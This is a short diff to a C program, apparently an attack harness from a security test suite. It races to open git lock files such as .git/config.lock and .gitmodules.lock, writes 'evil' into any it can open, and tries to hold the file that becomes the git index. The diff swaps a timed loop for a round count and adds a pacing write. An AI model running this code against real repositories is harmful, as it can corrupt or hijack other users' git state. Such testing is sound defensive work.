@@ -2,8 +2,9 @@
 #include "attack.h"
 int main(void) {
   const char *names[] = {".git/config.lock", ".git/config.worktree.lock", ".gitmodules.lock", "access/.accessc/s/new0"};
-  int fd = -1, held = 0;
-  for (double end = now() + 1.5; now() < end;) {
+  int fd = -1, held = 0, pace = open("src/lap", O_WRONLY);
+  fcntl(pace, F_SETFL, O_NONBLOCK);
+  for (long n = ROUNDS(400); n > 0 || !held; n--) {
     for (int i = 0; i < 4; i++) {
       int f = open(names[i], O_RDWR);
       if (f >= 0) { write(f, "evil", 4); leak("%s was opened", names[i]); close(f); }
@@ -17,6 +18,7 @@ int main(void) {
       held = 1;
       good("hold what becomes the index");
     }
+    write(pace, "x", 1);
     if (fd >= 0 && !held && !fstat(fd, &a) && !a.st_nlink) { close(fd); fd = -1; }
   }
 }
